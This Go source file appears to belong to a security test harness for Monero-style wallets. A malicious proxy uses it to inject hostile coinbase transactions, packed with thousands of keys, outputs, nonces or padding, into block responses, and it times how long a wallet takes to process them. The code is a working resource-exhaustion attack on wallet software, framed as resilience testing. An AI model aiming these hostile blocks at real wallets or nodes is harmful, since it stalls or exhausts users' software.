package main

import (
	"context"
	"errors"
	"fmt"
	"sync/atomic"
	"time"

	"glim/bindings/peers/malicious"
	"glim/core/block"
	"glim/core/crypto/edwards"
	"glim/core/daemonrpc"
	"glim/core/rpc"
	"glim/core/tx"
	"glim/core/xmr"
)

// coinbaseKind is a kind of hostile coinbase.
type coinbaseKind struct {
	kind   string
	fill   func(c *tx.Transaction, size int)
	tagged bool // outputs have view tags
}

// coinbaseKinds returns coinbases with many keys, many outputs, or a long extra field. out is a valid output.
func coinbaseKinds(points []xmr.PublicKey, out tx.Output) []coinbaseKind {
	return []coinbaseKind{
		{"as many keys as outputs", func(c *tx.Transaction, size int) {
			fill(c, points, out, size/70, size/70)
		}, false},
		{"as many keys as outputs, with view tags", func(c *tx.Transaction, size int) {
			fill(c, points, out, size/70, size/70)
		}, true},
		{"2000 keys, 2000 outputs", func(c *tx.Transaction, size int) { fill(c, points, out, 2000, 2000) }, false},
		{"4000 keys, 3000 outputs", func(c *tx.Transaction, size int) { fill(c, points, out, 4000, 3000) }, false},
		{"keys, 2 outputs", func(c *tx.Transaction, size int) { fill(c, points, out, size/33, 2) }, false},
		{"a key, many outputs", func(c *tx.Transaction, size int) { fill(c, points, out, 1, size/34) }, false},
		{"a key, many outputs with view tags", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, size/35)
		}, true},
		{"many additional keys, as many outputs", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, size/70)
			c.Extra = tx.AppendAdditionalKeys(c.Extra, many(points, size/70))
		}, false},
		{"many lists of additional keys", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, 16)
			for len(c.Extra) < size {
				c.Extra = tx.AppendAdditionalKeys(c.Extra, many(points, 16))
			}
		}, false},
		{"many nonces", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, 2)
			for len(c.Extra) < size {
				c.Extra = append(c.Extra, 2, 9, 1, 1, 2, 3, 4, 5, 6, 7, 8)
			}
		}, false},
		{"padding", func(c *tx.Transaction, size int) {
			fill(c, points, out, 1, 2)
			c.Extra = append(c.Extra, make([]byte, size)...)
		}, false},
	}
}

// hostileBlocks returns blocks without proof of work whose coinbase has many keys, many outputs, or a long extra field.
func hostileBlocks(w *testbed) (all []attack, err error) {
	outputs, err := rpc.Call(context.Background(), w.chain.Registry(), daemonrpc.GetOutsBin,
		daemonrpc.GetOutsBinRequest{Outputs: []daemonrpc.OutputRef{{Index: 1}}})
	if err != nil {
		return nil, err
	}
	out := tx.Output{Amount: 1, Key: xmr.PublicKey(outputs.Outs[0].Key)}
	points := make([]xmr.PublicKey, 1024)
	for i := range points {
		points[i] = xmr.PublicKey(edwards.HashToPoint([32]byte{byte(i), byte(i >> 8), 7}).Encode())
	}
	for _, k := range coinbaseKinds(points, out) {
		all = append(all, attack{"hostile block", "refresh", k.kind, full,
			func(ctx context.Context, v *target, size int) (int64, error) { return w.sendBlock(ctx, v, k, size) }})
		all = append(all, attack{"hostile block", "refresh", k.kind + ", a sixteenth of the size", full,
			func(ctx context.Context, v *target, size int) (int64, error) { return w.sendBlock(ctx, v, k, size/16) }})
	}
	return all, nil
}

// sendBlock answers the next request for blocks with a hostile coinbase, and returns the bytes sent.
func (w *testbed) sendBlock(ctx context.Context, v *target, k coinbaseKind, size int) (int64, error) {
	var sent atomic.Int64
	var broken atomic.Pointer[error]
	w.proxy.Inject(malicious.Modify("a hostile block", daemonrpc.GetBlocks,
		func(_ daemonrpc.GetBlocksRequest, r *daemonrpc.GetBlocksResponse) {
			if err := bendCoinbase(r, k, size, &sent); err != nil {
				broken.Store(&err)
			}
		}))
	defer w.proxy.Inject(malicious.Fault{})
	// Reading all pairs of keys and outputs may take days, and needs no more memory later.
	ctx, cancel := context.WithTimeout(ctx, blockPatience)
	defer cancel()
	_, _, err := sendBody(ctx, v.url+"/json_rpc", call("refresh", []byte("{}")))
	v.wanted = true // no other attack can use this chain
	if e := broken.Load(); e != nil {
		return 0, *e
	}
	if sent.Load() == 0 {
		return 0, errors.Join(errors.New("no block was requested"), err)
	}
	return sent.Load(), nil
}

// bendCoinbase replaces the coinbase of the last block by one of kind k, and adds the bytes of the block and of its
// indices to sent.
func bendCoinbase(r *daemonrpc.GetBlocksResponse, k coinbaseKind, size int, sent *atomic.Int64) error {
	if len(r.Blocks) == 0 || !sent.CompareAndSwap(0, 1) {
		return nil
	}
	last := &r.Blocks[len(r.Blocks)-1]
	b, err := block.Parse(last.Block)
	if err != nil {
		return err
	}
	c := &b.MinerTx
	c.Outputs, c.Extra = nil, nil
	k.fill(c, size)
	for i := range c.Outputs {
		c.Outputs[i].Tagged = k.tagged
		c.Outputs[i].ViewTag = byte(i)
	}
	last.Block = b.Append(nil)
	sent.Store(int64(len(last.Block)))
	if n := len(r.OutputIndices); n > 0 { // as many indices as outputs
		coinbase := &r.OutputIndices[n-1].Indices[0]
		coinbase.Indices = make([]uint64, len(c.Outputs))
		for i := range coinbase.Indices {
			coinbase.Indices[i] = uint64(1000 + i)
		}
		sent.Add(int64(8 * len(coinbase.Indices)))
	}
	return nil
}

// blockPatience is how long a wallet is watched while it reads a hostile block.
const blockPatience = 20 * time.Second

// many returns n of the points.
func many(points []xmr.PublicKey, n int) (all []xmr.PublicKey) {
	for i := range n {
		all = append(all, points[i%len(points)])
	}
	return all
}

// fill gives a coinbase public keys and copies of an output.
func fill(c *tx.Transaction, points []xmr.PublicKey, out tx.Output, keys, outputs int) {
	for i := range keys {
		// The keys differ and are points, so that none can be skipped.
		c.Extra = tx.AppendPublicKey(c.Extra, points[i%len(points)])
	}
	for range outputs {
		c.Outputs = append(c.Outputs, out)
	}
}

func itoa(n int) string { return fmt.Sprint(n) }
